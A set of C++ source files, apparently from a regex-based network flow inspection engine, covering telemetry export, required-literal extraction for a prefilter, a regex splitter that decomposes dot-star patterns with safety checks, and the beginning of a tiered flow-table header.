// Metric naming convention: mfa_<noun>[_<unit>][_total], labels shard="N"
// and id="N" only.
#pragma once

#include <cstdint>
#include <optional>
#include <string>
#include <string_view>
#include <vector>

#include "obs/metrics.h"

namespace mfa::obs {

/// Escape a label value for the Prometheus text exposition format:
/// backslash, double quote, and newline become \\, \", and \n.
std::string prom_escape_label(std::string_view value);

/// True when `name` is a valid Prometheus metric name:
/// [a-zA-Z_:][a-zA-Z0-9_:]*. The exporter refuses to emit invalid names.
bool prom_metric_name_valid(std::string_view name);

/// Escape a string for embedding in a JSON string literal (quote,
/// backslash, and control characters).
std::string json_escape(std::string_view value);

/// Prometheus text exposition format (one series per shard, cumulative
/// histogram buckets with log2 "le" bounds). `rule_names` (optional,
/// id -> name) adds an escaped rule="<name>" label to per-id match
/// counters; hostile names (quotes, backslashes, newlines) are safe.
std::string to_prometheus(const RegistrySnapshot& snap,
                          const std::vector<std::string>* rule_names = nullptr);

/// Compact single-line JSON ({"schema":"mfa.telemetry.v1",...}), suitable
/// both for dashboards and for appending as JSON lines.
std::string to_json(const RegistrySnapshot& snap);

/// Accumulates bench results (the rows the fig4/fig5/pipeline binaries used
/// to format by hand) and renders them as the mfa.bench.v1 JSON schema —
/// the format BENCH_*.json files accumulate. Telemetry snapshots attach
/// verbatim under "telemetry".
class BenchReport {
 public:
  explicit BenchReport(std::string bench_name) : bench_(std::move(bench_name)) {}

  void add(std::string set, std::string trace, std::string engine,
           double cycles_per_byte, std::uint64_t matches, std::size_t shards = 1) {
    rows_.push_back(Row{std::move(set), std::move(trace), std::move(engine),
                        cycles_per_byte, matches, shards});
  }

  void set_telemetry(RegistrySnapshot snap) { telemetry_ = std::move(snap); }

  [[nodiscard]] std::string to_json() const;

  /// Write to_json() plus a trailing newline; false on I/O failure.
  bool write_file(const std::string& path) const;

 private:
  struct Row {
    std::string set;
    std::string trace;
    std::string engine;
    double cycles_per_byte = 0.0;
    std::uint64_t matches = 0;
    std::size_t shards = 1;
  };

  std::string bench_;
  std::vector<Row> rows_;
  std::optional<RegistrySnapshot> telemetry_;
};

}  // namespace mfa::obs
