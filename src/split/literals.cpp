#include "split/literals.h"

#include <algorithm>

namespace mfa::split {

namespace {

using regex::Node;
using regex::NodeKind;
using regex::NodePtr;

using Alts = std::vector<std::string>;

/// Extraction result for one node. `alts` is an or-list such that every
/// match of the node contains >= 1 entry as a contiguous factor (empty =
/// extraction failed). `exact` additionally promises every entry IS a
/// complete match of the node and every match IS an entry — the property
/// that makes cross-concatenation with an adjacent sibling sound. A factor
/// that is merely *contained* (e.g. one repetition out of a Plus) must not
/// be glued to its neighbors: in "a+x", the byte matched by `a+`'s factor
/// is not necessarily adjacent to `x`.
struct Extract {
  Alts alts;
  bool exact = false;
};

/// Score an or-list: longer guaranteed length wins (stronger prefilter),
/// then fewer alternatives (cheaper Teddy masks).
struct Score {
  std::size_t min_len = 0;
  std::size_t alts = 0;
  [[nodiscard]] bool better_than(const Score& o) const {
    if (min_len != o.min_len) return min_len > o.min_len;
    return alts < o.alts;
  }
};

Score score_of(const Alts& a) {
  Score s;
  if (a.empty()) return s;
  s.min_len = a[0].size();
  for (const std::string& x : a) s.min_len = std::min(s.min_len, x.size());
  s.alts = a.size();
  return s;
}

Extract extract(const Node& n, const LiteralOptions& opt);

void dedupe(Alts& a) {
  std::sort(a.begin(), a.end());
  a.erase(std::unique(a.begin(), a.end()), a.end());
}

/// Cross-concatenate two exact or-lists. Fails (empty) past the
/// alternatives cap; sets `truncated` when any entry hit max_len (a
/// truncated entry is a prefix, so the result is no longer exact and the
/// run must stop growing).
Alts cross(const Alts& a, const Alts& b, const LiteralOptions& opt, bool& truncated) {
  if (a.size() * b.size() > opt.max_alternatives) return {};
  Alts out;
  out.reserve(a.size() * b.size());
  for (const std::string& x : a)
    for (const std::string& y : b) {
      std::string s = x + y;
      if (s.size() > opt.max_len) {
        s.resize(opt.max_len);
        truncated = true;
      }
      out.push_back(std::move(s));
    }
  dedupe(out);
  return out;
}

/// Concat: every non-nullable child is traversed by every match, so any one
/// child's or-list is a valid factor list for the whole Concat, and an
/// adjacent run of children with *exact* lists cross-concatenates into
/// longer factors. Build runs greedily, keep the best.
Extract extract_concat(const Node& n, const LiteralOptions& opt) {
  Alts best;
  Score best_score;
  bool best_is_whole = false;  // best run covers all children, exactly

  Alts run;
  bool run_exact = false;          // entries are complete matches of the run
  std::size_t run_children = 0;    // children consumed into the run
  const auto close_run = [&](std::size_t total_children) {
    if (!run.empty()) {
      const Score s = score_of(run);
      if (best.empty() || s.better_than(best_score)) {
        best = std::move(run);
        best_score = s;
        best_is_whole = run_exact && run_children == total_children;
      }
    }
    run.clear();
    run_exact = false;
    run_children = 0;
  };

  const std::size_t total = n.children.size();
  for (const NodePtr& child : n.children) {
    // A nullable child may contribute epsilon: nothing inside it is
    // required, and it breaks factor adjacency.
    if (regex::nullable(*child)) {
      close_run(total);
      continue;
    }
    Extract e = extract(*child, opt);
    if (e.alts.empty()) {
      close_run(total);
      continue;
    }
    if (!e.exact) {
      // Contained-only factors stand alone: score as their own run.
      close_run(total);
      run = std::move(e.alts);
      run_exact = false;
      run_children = 1;
      close_run(total);
      continue;
    }
    if (run.empty()) {
      run = std::move(e.alts);
      run_exact = true;
      run_children = 1;
      continue;
    }
    if (!run_exact) {
      close_run(total);
      run = std::move(e.alts);
      run_exact = true;
      run_children = 1;
      continue;
    }
    bool truncated = false;
    Alts merged = cross(run, e.alts, opt, truncated);
    if (merged.empty()) {
      // Product too wide: keep the pieces as separate candidate runs.
      close_run(total);
      run = std::move(e.alts);
      run_exact = true;
      run_children = 1;
      continue;
    }
    run = std::move(merged);
    ++run_children;
    if (truncated) run_exact = false;
  }
  close_run(total);
  return Extract{std::move(best), best_is_whole};
}

Extract extract(const Node& n, const LiteralOptions& opt) {
  switch (n.kind) {
    case NodeKind::CharSet: {
      if (n.cc.count() == 0 || n.cc.count() > opt.max_class_expand ||
          n.cc.count() > opt.max_alternatives)
        return {};
      Alts out;
      n.cc.for_each([&](unsigned char c) {
        out.push_back(std::string(1, static_cast<char>(c)));
      });
      return Extract{std::move(out), true};
    }
    case NodeKind::Concat:
      return extract_concat(n, opt);
    case NodeKind::Alternate: {
      // Every branch must yield a list; the union is required. Exact only
      // if every branch's list is exact.
      Alts out;
      bool exact = true;
      for (const NodePtr& child : n.children) {
        Extract e = extract(*child, opt);
        if (e.alts.empty()) return {};
        exact = exact && e.exact;
        out.insert(out.end(), e.alts.begin(), e.alts.end());
        if (out.size() > opt.max_alternatives) return {};
      }
      dedupe(out);
      return Extract{std::move(out), exact};
    }
    case NodeKind::Plus:
      // child{1,}: one traversal is guaranteed, but its position inside the
      // repetition is not — contained factor only.
      if (n.children.empty()) return {};
      return Extract{extract(*n.children[0], opt).alts, false};
    case NodeKind::Repeat:
      if (n.rep_min >= 1 && !n.children.empty()) {
        Extract e = extract(*n.children[0], opt);
        // {1,1} repeats exactly once: the child's exactness survives.
        return Extract{std::move(e.alts),
                       e.exact && n.rep_min == 1 && n.rep_max == 1};
      }
      return {};
    case NodeKind::Empty:
    case NodeKind::Star:
    case NodeKind::Optional:
      return {};
  }
  return {};
}

}  // namespace

std::vector<std::string> required_literal_factors(const regex::NodePtr& node,
                                                  const LiteralOptions& opt) {
  if (node == nullptr) return {};
  return extract(*node, opt).alts;
}

}  // namespace mfa::split
