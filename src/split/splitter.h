// Regex Splitter (paper Sec. IV, Algorithm 1).
//
// Decomposes each input regex at its top-level dot-star (`.*A.*B`) and
// almost-dot-star (`.*A[^X]*B`) boundaries into simple segment regexes plus
// a filter program that reconstructs the original match semantics:
//
//   .*A.*B{{n}}      ->  .*A{{n'}} | .*B{{n}}
//                        n': Set i            n: Test i to Match
//   .*A[^X]*B{{n}}   ->  .*A{{n'}} | .*[X]{{n''}} | .*B{{n}}
//                        n': Set i  n'': Clear i  n: Test i to Match
//
// A boundary is split only when the safety conditions hold (Sec. IV-A/B):
//   1. no suffix of A is a prefix of B (checked exactly on the segment
//      automata via a product-NFA emptiness test);
//   2. for almost-dot-star: X does not appear in B, X does not appear in a
//      final position of A, and |X| < 128 (the paper's size threshold);
//   3. segments are non-nullable (a nullable segment would match at every
//      position and is never worth splitting out).
// When a boundary fails its checks the separator is folded into the growing
// compound segment and splitting continues at the next boundary, so one bad
// boundary does not forfeit the rest of the pattern (correctness over
// compression, Sec. I-D).
#pragma once

#include <cstdint>
#include <string>
#include <vector>

#include "filter/action.h"
#include "nfa/nfa.h"
#include "regex/ast.h"

namespace mfa::split {

struct Options {
  /// |X| threshold for almost-dot-star (paper Sec. IV-B: 128).
  std::size_t max_class_size = 128;
  /// Ablation switches: disable one decomposition family entirely.
  bool enable_dot_star = true;
  bool enable_almost_dot_star = true;
  /// Gap decomposition (`.*A.{n,}B`, paper Sec. VI future work): the filter
  /// records match offsets and enforces the minimum distance.
  bool enable_gap = true;
  /// Cap on product-NFA pairs explored by the overlap check; boundaries
  /// whose check would exceed it are conservatively not split.
  std::size_t overlap_check_limit = 200000;
};

/// One decomposed piece: the regex compiled into the character DFA under a
/// dense engine match id (the id the DFA reports; the filter program maps
/// it back to original pattern ids).
struct Piece {
  regex::Regex regex;
  std::uint32_t engine_id = 0;
};

struct Stats {
  std::uint32_t patterns_in = 0;
  std::uint32_t patterns_decomposed = 0;  ///< patterns split at >= 1 boundary
  std::uint32_t dot_star_splits = 0;
  std::uint32_t almost_dot_star_splits = 0;
  std::uint32_t gap_splits = 0;           ///< `.{n,}` boundaries (Sec. VI ext.)
  std::uint32_t boundaries_rejected = 0;  ///< failed a safety check
};

struct SplitResult {
  std::vector<Piece> pieces;
  filter::Program program;  ///< actions indexed by engine_id
  Stats stats;
};

/// Run Algorithm 1 over a pattern set. Patterns that match no decomposition
/// pattern pass through as single pieces with a plain-report action.
SplitResult split_patterns(const std::vector<nfa::PatternInput>& patterns,
                           const Options& options = {});

/// Exact overlap test used by condition 1: is there a non-empty string that
/// is a suffix of some word of L(a) and a prefix of some word of L(b)?
/// Exposed for unit tests. `limit` caps explored product states; on budget
/// exhaustion the function answers true (conservative: blocks the split).
bool segments_overlap(const regex::NodePtr& a, const regex::NodePtr& b,
                      std::size_t limit = 200000);

}  // namespace mfa::split
