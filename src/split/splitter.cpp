#include "split/splitter.h"

#include <algorithm>
#include <unordered_map>
#include <unordered_set>

namespace mfa::split {

using filter::Action;
using filter::kNone;
using regex::CharClass;
using regex::Node;
using regex::NodeKind;
using regex::NodePtr;

namespace {

// ---------------------------------------------------------------------------
// Overlap check (safety condition 1).
//
// The paper states the condition as "no suffix of A can be a prefix of B".
// Taken literally that is insufficient: for A=ab, B=cabd the condition holds
// (suffixes {b, ab} vs prefixes {c, ca, cab}) yet input "cabd" falsely
// matches the decomposition of .*ab.*cabd — the A-word occurs as an internal
// factor of the B-word, so the Set fires mid-B and the Test confirms.
// We therefore check the complete condition: a false match is constructible
// iff there is a string y that is a viable proper prefix of some B-word
// (i.e. B can still consume at least one more byte and accept) such that
//   (i)  y itself is a suffix of some A-word       [A overlaps B's start], or
//   (ii) some suffix of y is a full A-word          [A inside B].
// Both cases are recognized by one product walk: simulate B's NFA from its
// start alongside an A-side NFA state set seeded with *all* A states
// (case i) and re-seeded with A's start state at every step (case ii).
// ---------------------------------------------------------------------------

struct MiniNfa {
  std::vector<std::vector<nfa::Transition>> trans;
  std::vector<bool> accept;
  std::uint32_t start = 0;
  std::vector<bool> viable;  // can reach an accept by consuming >= 1 byte
};

MiniNfa build_mini(const NodePtr& root) {
  std::vector<nfa::PatternInput> one;
  one.push_back({regex::Regex{root, /*anchored=*/true, ""}, 1});
  const nfa::Nfa n = nfa::build_nfa(one);
  MiniNfa m;
  m.start = n.start();
  m.trans.resize(n.state_count());
  m.accept.resize(n.state_count());
  for (std::uint32_t s = 0; s < n.state_count(); ++s) {
    m.trans[s] = n.transitions_from(s);
    m.accept[s] = !n.accepts(s).empty();
  }
  // viable = has a path of length >= 1 to an accepting state: backward BFS
  // over one-step predecessors of accepting states, then of viable states.
  m.viable.assign(n.state_count(), false);
  bool changed = true;
  while (changed) {
    changed = false;
    for (std::uint32_t s = 0; s < n.state_count(); ++s) {
      if (m.viable[s]) continue;
      for (const auto& t : m.trans[s]) {
        if (m.accept[t.target] || m.viable[t.target]) {
          m.viable[s] = true;
          changed = true;
          break;
        }
      }
    }
  }
  return m;
}

struct PairKey {
  std::vector<std::uint32_t> a;
  std::vector<std::uint32_t> b;
  bool operator==(const PairKey&) const = default;
};

struct PairKeyHash {
  std::size_t operator()(const PairKey& k) const {
    std::uint64_t h = 0xcbf29ce484222325ULL;
    for (const auto x : k.a) {
      h ^= x;
      h *= 0x100000001b3ULL;
    }
    h ^= 0xabcdef;
    for (const auto x : k.b) {
      h ^= x;
      h *= 0x100000001b3ULL;
    }
    return static_cast<std::size_t>(h);
  }
};

}  // namespace

bool segments_overlap(const NodePtr& a, const NodePtr& b, std::size_t limit) {
  const MiniNfa na = build_mini(a);
  const MiniNfa nb = build_mini(b);

  PairKey initial;
  initial.a.resize(na.trans.size());
  for (std::uint32_t s = 0; s < na.trans.size(); ++s) initial.a[s] = s;  // all A states
  initial.b.push_back(nb.start);

  std::unordered_set<PairKey, PairKeyHash> seen;
  std::vector<PairKey> worklist{initial};
  seen.insert(initial);

  std::vector<bool> a_mark(na.trans.size());
  std::vector<bool> b_mark(nb.trans.size());

  while (!worklist.empty()) {
    if (seen.size() > limit) return true;  // budget blown: assume overlap
    const PairKey cur = std::move(worklist.back());
    worklist.pop_back();

    for (unsigned byte = 0; byte < 256; ++byte) {
      const auto c = static_cast<unsigned char>(byte);
      // B side first: if no B state advances, this byte is a dead end.
      std::fill(b_mark.begin(), b_mark.end(), false);
      bool b_any = false;
      for (const std::uint32_t s : cur.b) {
        for (const auto& t : nb.trans[s]) {
          if (t.cc.test(c) && !b_mark[t.target]) {
            b_mark[t.target] = true;
            b_any = true;
          }
        }
      }
      if (!b_any) continue;
      std::fill(a_mark.begin(), a_mark.end(), false);
      for (const std::uint32_t s : cur.a) {
        for (const auto& t : na.trans[s]) {
          if (t.cc.test(c)) a_mark[t.target] = true;
        }
      }
      a_mark[na.start] = true;  // case (ii): an A-word may begin at any offset

      PairKey next;
      bool a_accepts = false;
      for (std::uint32_t s = 0; s < a_mark.size(); ++s) {
        if (a_mark[s]) {
          next.a.push_back(s);
          a_accepts |= na.accept[s];
        }
      }
      bool b_viable = false;
      for (std::uint32_t s = 0; s < b_mark.size(); ++s) {
        if (b_mark[s]) {
          next.b.push_back(s);
          b_viable |= nb.viable[s];
        }
      }
      if (a_accepts && b_viable) return true;
      if (!b_viable) continue;  // nothing left to extend
      if (seen.insert(next).second) worklist.push_back(std::move(next));
    }
  }
  return false;
}

namespace {

// ---------------------------------------------------------------------------
// Top-level tokenization: segments and separators.
// ---------------------------------------------------------------------------

struct Separator {
  enum class Kind { kDotStar, kAlmostDotStar, kGap };
  Kind kind = Kind::kDotStar;
  CharClass x;       // the negated class X for almost-dot-star
  int min_gap = 0;   // minimum byte gap for kGap (`.{n,}`)
  NodePtr original;  // the separator node, for folding back on rejection

  [[nodiscard]] bool almost() const { return kind == Kind::kAlmostDotStar; }
};

struct Token {
  bool is_separator = false;
  NodePtr segment;  // when !is_separator
  Separator sep;    // when is_separator
};

/// Classify a top-level child as a separator: (cc)* where cc covers
/// everything (dot-star) or everything but a small X (almost-dot-star),
/// plus the gap-extension forms `.{n,}` and `.+` over the full alphabet.
std::optional<Separator> classify_separator(const NodePtr& child, const Options& options) {
  const auto gap_sep = [&](int n) -> std::optional<Separator> {
    if (!options.enable_gap) return std::nullopt;
    Separator sep;
    sep.kind = Separator::Kind::kGap;
    sep.min_gap = n;
    sep.original = child;
    return sep;
  };
  if (child->kind == NodeKind::Plus) {
    const NodePtr& body = child->children.front();
    if (body->kind == NodeKind::CharSet && body->cc.is_all()) return gap_sep(1);
    return std::nullopt;
  }
  if (child->kind == NodeKind::Repeat && child->rep_max < 0) {
    const NodePtr& body = child->children.front();
    if (body->kind == NodeKind::CharSet && body->cc.is_all())
      return gap_sep(child->rep_min);
    return std::nullopt;
  }
  if (child->kind != NodeKind::Star) return std::nullopt;
  const NodePtr& body = child->children.front();
  if (body->kind != NodeKind::CharSet) return std::nullopt;
  const CharClass& cc = body->cc;
  if (cc.is_all()) {
    if (!options.enable_dot_star) return std::nullopt;
    Separator sep;
    sep.original = child;
    return sep;
  }
  const CharClass x = cc.negated();
  if (x.count() < options.max_class_size) {
    // Note: a PCRE-style `.*` (dot excluding newline) lands here with
    // X = {'\n'}.
    if (!options.enable_almost_dot_star) return std::nullopt;
    Separator sep;
    sep.kind = Separator::Kind::kAlmostDotStar;
    sep.x = x;
    sep.original = child;
    return sep;
  }
  return std::nullopt;
}

/// Tokenize the top-level concat sequence, collapsing separator runs:
/// any run containing a dot-star is a dot-star; a run of almost-dot-stars
/// with identical X collapses to one; mixed almost-dot-star runs are not a
/// single-class separator, so they fold back into segment material.
std::vector<Token> tokenize(const regex::Regex& re, const Options& options) {
  std::vector<NodePtr> children;
  if (re.root->kind == NodeKind::Concat) children = re.root->children;
  else children.push_back(re.root);

  std::vector<Token> tokens;
  std::vector<NodePtr> pending_segment;
  std::vector<Separator> pending_seps;

  const auto flush_segment = [&] {
    if (pending_segment.empty()) return;
    Token t;
    t.segment = regex::make_concat(std::move(pending_segment));
    pending_segment.clear();
    tokens.push_back(std::move(t));
  };
  const auto flush_seps = [&] {
    if (pending_seps.empty()) return;
    bool any_almost = false;
    bool any_gap = false;
    bool uniform_almost = true;
    int gap_total = 0;
    for (const auto& s : pending_seps) {
      if (s.kind == Separator::Kind::kAlmostDotStar) any_almost = true;
      if (s.kind == Separator::Kind::kGap) any_gap = true;
      if (s.almost() && !(s.x == pending_seps.front().x)) uniform_almost = false;
      gap_total += s.min_gap;
    }
    const auto emit = [&](Separator sep) {
      Token t;
      t.is_separator = true;
      t.sep = std::move(sep);
      tokens.push_back(std::move(t));
    };
    if (!any_almost) {
      // A run of dot-stars/gaps is one gap of the summed minimum
      // (`.*.{2,}.+` == `.{3,}`), or a plain dot-star when the sum is 0.
      Separator sep;
      if (gap_total > 0) {
        sep.kind = Separator::Kind::kGap;
        sep.min_gap = gap_total;
        sep.original = regex::make_repeat(regex::make_charset(CharClass::all()),
                                          gap_total, -1);
      } else {
        sep.original = regex::make_star(regex::make_charset(CharClass::all()));
      }
      emit(std::move(sep));
    } else if (!any_gap && pending_seps.size() > 1 &&
               std::any_of(pending_seps.begin(), pending_seps.end(),
                           [](const Separator& s) { return !s.almost(); })) {
      // Dot-stars absorb almost-dot-stars: `.*[^X]*` == `.*`.
      Separator sep;
      sep.original = regex::make_star(regex::make_charset(CharClass::all()));
      emit(std::move(sep));
    } else if (pending_seps.size() == 1 || (!any_gap && uniform_almost)) {
      // `[^X]*[^X]*` == `[^X]*`.
      emit(pending_seps.front());
    } else {
      // Not expressible as one separator (mixed-X ADS runs, gap+ADS):
      // keep the nodes as segment bytes.
      for (const auto& s : pending_seps) pending_segment.push_back(s.original);
    }
    pending_seps.clear();
  };

  for (const auto& child : children) {
    if (auto sep = classify_separator(child, options)) {
      flush_segment();
      pending_seps.push_back(*std::move(sep));
    } else {
      flush_seps();
      pending_segment.push_back(child);
    }
  }
  flush_seps();
  flush_segment();
  return tokens;
}

// ---------------------------------------------------------------------------
// The splitter proper.
// ---------------------------------------------------------------------------

class Splitter {
 public:
  Splitter(const Options& options) : options_(options) {}

  SplitResult take_result() && { return std::move(result_); }

  void add_pattern(const nfa::PatternInput& p) {
    ++result_.stats.patterns_in;
    std::vector<Token> tokens = tokenize(p.regex, options_);
    bool anchored = p.regex.anchored;

    // Leading separators: an unanchored pattern already searches from every
    // offset, so `.*A...` and `[^X]*A...` reduce to `A...` ([^X]* may match
    // empty). An anchored `^.*A` is equivalent to unanchored `A`. A leading
    // gap (`.{n,}A`) constrains the distance from stream start and must be
    // kept (it folds into the first segment below).
    while (!tokens.empty() && tokens.front().is_separator) {
      const Separator& sep = tokens.front().sep;
      if (sep.kind == Separator::Kind::kGap) break;
      if (anchored && sep.almost()) break;  // ^[^X]*A: keep
      if (anchored) anchored = false;       // ^.*A == unanchored A
      tokens.erase(tokens.begin());
    }
    // An anchored `^[^X]*A...` keeps its leading separator; demote it to
    // segment material so the anchor stays on the first piece.
    std::vector<Token> norm;
    for (auto& t : tokens) {
      if (t.is_separator && norm.empty()) {
        Token seg;
        seg.segment = t.sep.original;
        norm.push_back(std::move(seg));
      } else {
        norm.push_back(std::move(t));
      }
    }
    // Merge any adjacent segment tokens introduced by folding.
    tokens.clear();
    for (auto& t : norm) {
      if (!t.is_separator && !tokens.empty() && !tokens.back().is_separator) {
        tokens.back().segment =
            regex::make_concat({tokens.back().segment, t.segment});
      } else {
        tokens.push_back(std::move(t));
      }
    }
    // Trailing separators fold into the final segment (A.* is a fine DFA
    // piece: it keeps reporting at every later position, matching the
    // original `.*A.*` ending-offset semantics).
    while (!tokens.empty() && tokens.back().is_separator) {
      const Separator sep = tokens.back().sep;
      tokens.pop_back();
      if (tokens.empty() || tokens.back().is_separator) continue;  // degenerate
      tokens.back().segment = regex::make_concat({tokens.back().segment, sep.original});
    }

    if (tokens.empty()) {
      // Pattern was pure separators (e.g. ".*"): keep it whole.
      emit_piece(p.regex.root, anchored, Action{kNone, kNone, kNone,
                                                static_cast<std::int32_t>(p.id)});
      return;
    }

    // After normalization tokens strictly alternate segment, separator,
    // segment, ... beginning and ending with a segment.
    std::vector<NodePtr> segs;
    std::vector<Separator> seps;  // seps[i] sits between segs[i] and segs[i+1]
    for (std::size_t i = 0; i < tokens.size(); ++i) {
      if (tokens[i].is_separator) seps.push_back(tokens[i].sep);
      else segs.push_back(tokens[i].segment);
    }

    // Decide which boundaries split, to a FIXPOINT. A boundary's safety
    // check depends on the *effective* segments around it, and those grow
    // when a neighbouring boundary folds — e.g. splitting `.*cc.*a.*aa` at
    // cc|a is safe while B is just `a`, but once a|aa folds (overlap), the
    // effective B becomes `a.*aa`, whose words can contain `cc`, and input
    // "accaa" would falsely match. So after every fold we re-validate the
    // remaining split boundaries against the regrown segments.
    std::vector<bool> split_ok(seps.size(), true);
    const auto effective = [&](std::size_t lo, std::size_t hi) {
      std::vector<NodePtr> parts;
      for (std::size_t s = lo; s <= hi; ++s) {
        if (s > lo) parts.push_back(seps[s - 1].original);
        parts.push_back(segs[s]);
      }
      return regex::make_concat(std::move(parts));
    };
    bool changed = true;
    while (changed) {
      changed = false;
      std::size_t lo = 0;  // first raw segment of the current effective A
      for (std::size_t b = 0; b < seps.size(); ++b) {
        if (!split_ok[b]) continue;
        std::size_t hi = b + 1;  // effective B spans raw segs [b+1, hi]
        while (hi < seps.size() && !split_ok[hi]) ++hi;
        if (!boundary_splittable(effective(lo, b), seps[b], effective(b + 1, hi))) {
          split_ok[b] = false;
          changed = true;
          ++result_.stats.boundaries_rejected;
          break;  // effective segments changed; restart validation
        }
        lo = b + 1;
      }
    }

    // Emit the effective segments in order. Same-position action ranks run
    // in REVERSE segment order (see filter::Action::order): with k
    // segments, segment j's action gets rank 2*(k-j) and the clear piece of
    // the bit set by segment j gets rank 2*(k-j)-1 (just below its setter).
    std::vector<std::size_t> boundaries;  // indices of ok separators
    for (std::size_t b = 0; b < seps.size(); ++b)
      if (split_ok[b]) boundaries.push_back(b);
    const std::size_t k = boundaries.size();  // segment count - 1

    std::int32_t guard = kNone;
    std::int32_t guard_slot = kNone;
    std::int32_t pending_gap = 0;
    std::size_t lo = 0;
    for (std::size_t j = 0; j < k; ++j) {
      const std::size_t b = boundaries[j];
      const Separator& sep = seps[b];
      const NodePtr piece = effective(lo, b);
      const std::int32_t bit = alloc_bit();
      Action set_action;
      set_action.test = guard;
      set_action.test_slot = guard_slot;
      set_action.min_gap = pending_gap;
      set_action.set = bit;
      set_action.order = 2 * static_cast<std::int32_t>(k - j);
      if (sep.kind == Separator::Kind::kGap) {
        set_action.set_slot = alloc_slot();
        // The fixed length of the next effective segment converts "gap >= n
        // between A's end and B's start" into "B's end - A's end >= n+|B|".
        const std::size_t next_hi = j + 1 < k ? boundaries[j + 1] : seps.size();
        pending_gap = sep.min_gap +
                      regex::min_match_length(*effective(b + 1, next_hi));
        ++result_.stats.gap_splits;
      } else {
        pending_gap = 0;
      }
      emit_piece(piece, j == 0 && anchored, set_action);
      if (sep.almost()) {
        Action clear_action;
        clear_action.clear = bit;
        clear_action.order = set_action.order - 1;
        emit_piece(regex::make_charset(sep.x), /*anchored=*/false, clear_action);
        ++result_.stats.almost_dot_star_splits;
      } else if (sep.kind != Separator::Kind::kGap) {
        ++result_.stats.dot_star_splits;
      }
      guard = bit;
      guard_slot = set_action.set_slot;
      lo = b + 1;
    }

    Action final_action;
    final_action.test = guard;
    final_action.test_slot = guard_slot;
    final_action.min_gap = pending_gap;
    final_action.report = static_cast<std::int32_t>(p.id);
    final_action.order = 0;
    emit_piece(effective(lo, segs.size() - 1), k == 0 && anchored, final_action);
    if (k > 0) ++result_.stats.patterns_decomposed;
  }

 private:
  std::int32_t alloc_bit() {
    return static_cast<std::int32_t>(result_.program.memory_bits++);
  }

  std::int32_t alloc_slot() {
    return static_cast<std::int32_t>(result_.program.position_slots++);
  }

  void emit_piece(NodePtr root, bool anchored, const Action& action) {
    const auto engine_id = static_cast<std::uint32_t>(result_.pieces.size());
    std::string source = (anchored ? "^" : "") + regex::to_source(*root);
    result_.pieces.push_back(
        Piece{regex::Regex{std::move(root), anchored, std::move(source)}, engine_id});
    result_.program.actions.push_back(action);
  }

  bool boundary_splittable(const NodePtr& a, const Separator& sep, const NodePtr& b) {
    // Condition 3: segments must be non-nullable — a nullable piece would
    // report at every input position.
    if (regex::nullable(*a) || regex::nullable(*b)) return false;
    if (sep.kind == Separator::Kind::kGap) {
      // Gap decomposition needs a fixed-length B to translate end-to-end
      // distance into start-to-end distance. No overlap check: the offset
      // requirement itself forces B to start after A ends (Sec. VI).
      const int min_len = regex::min_match_length(*b);
      return min_len > 0 && regex::max_match_length(*b) == min_len;
    }
    if (sep.almost()) {
      // Sec. IV-B: X must not occur in B at all, and must not occur at a
      // final position of A (its Clear would race A's Set).
      if (sep.x.intersects(regex::all_chars(*b))) return false;
      if (sep.x.intersects(regex::last_chars(*a))) return false;
    }
    // Condition 1: exact overlap check on the segment automata.
    if (segments_overlap(a, b, options_.overlap_check_limit)) return false;
    return true;
  }

  Options options_;
  SplitResult result_;
};

}  // namespace

SplitResult split_patterns(const std::vector<nfa::PatternInput>& patterns,
                           const Options& options) {
  Splitter splitter(options);
  for (const auto& p : patterns) splitter.add_pattern(p);
  return std::move(splitter).take_result();
}

}  // namespace mfa::split
