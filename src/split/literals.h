// Required-literal extraction from piece regexes (DESIGN.md §13).
//
// For the SIMD prefilter, each decomposed piece must contribute a small
// "or-list" of byte strings such that EVERY match of the piece contains at
// least one list entry as a contiguous factor. Then a payload chunk that
// contains no entry of the union list cannot complete any piece inside the
// chunk — the property the prefilter gate is built on. Extraction here is a
// best-effort heuristic; the gate's soundness is NOT trusted to it: the
// prefilter re-verifies the factor property directly on the compiled
// character DFA (simd::Prefilter), so an extraction bug can only disable
// the gate, never corrupt a match.
#pragma once

#include <string>
#include <vector>

#include "regex/ast.h"

namespace mfa::split {

struct LiteralOptions {
  /// Longest literal kept; longer factors are truncated (a prefix of a
  /// required factor is still a required factor).
  std::size_t max_len = 8;
  /// Cap on or-list alternatives per piece; extraction fails beyond it.
  std::size_t max_alternatives = 16;
  /// Character classes with more members than this do not expand into
  /// alternatives (but see max_alternatives: a small class can still blow
  /// the product cap inside a run).
  std::size_t max_class_expand = 8;
};

/// Extract an or-list of required factors for `node`. Empty result means
/// no required factor could be established (the piece is unprefilterable
/// and the whole MFA's prefilter is disabled).
std::vector<std::string> required_literal_factors(const regex::NodePtr& node,
                                                  const LiteralOptions& opt = {});

}  // namespace mfa::split
