// Hierarchical hot/cold flow state (DESIGN.md Sec. 11).
//
// The flat FlowInspector keeps every flow in an unordered_map node: ~200+
// bytes of node/allocator overhead around a context that, for the paper's
// MFA, is a 12-byte (q, m) pair (Sec. III-B). At millions of concurrent
// flows that overhead — not the automaton — dominates memory, and the
// per-packet LRU relink dirties two extra cache lines per packet.
//
// TieredFlowInspector splits the flow table into two tiers:
//
//  - HOT: an open-addressed, 2-choice-hashed table of fixed-size slots
//    (width-8 buckets, one cuckoo kick level, then grow). A slot holds the
//    FlowKey, the stream offset, the last-active epoch, and — for engines
//    exposing the InlineContext small-state API (Dfa, CompactDfa, Mfa) —
//    the whole per-flow scan state inline. In-order flows of such engines
//    never touch the heap at all.
//  - COLD: per-shard slab-arena records (slab.h), allocated only for flows
//    that reorder (buffered segments) or run a big-state engine
//    (Nfa/Hfa/Xfa, or an Mfa ruleset whose memory exceeds the inline word).
//    A reorder-only record is freed again the moment its gap fills.
//
// Eviction replaces the intrusive LRU with a hashed timing wheel
// (timing_wheel.h) driven by a per-shard packet epoch: touching a flow
// writes one epoch field in its hot slot — no list relinking — and wheel
// entries are validated lazily when they surface. Capacity eviction
// (max_flows) consumes the oldest-surfacing valid entry; an optional idle
// TTL evicts flows untouched for N epochs. All O(1) amortized.
//
// API parity: this class mirrors the flat FlowInspector surface (packet,
// packet_batch*, quarantine/CPU budgets, adopt_engine generations, metrics)
// plus tiering extras (reserve_flows, set_idle_ttl, hot/cold accounting).
// The flat inspector remains available; the sharded pipeline uses this one.
//
// Capacity note: wheel entries encode (slot << 8 | stamp) in 32 bits, so a
// single inspector is capped at 2^24 hot slots (~16M flows per shard).
#pragma once

#include <cassert>
#include <cstddef>
#include <cstdint>
#include <deque>
#include <memory>
#include <optional>
#include <unordered_set>
#include <utility>
#include <vector>

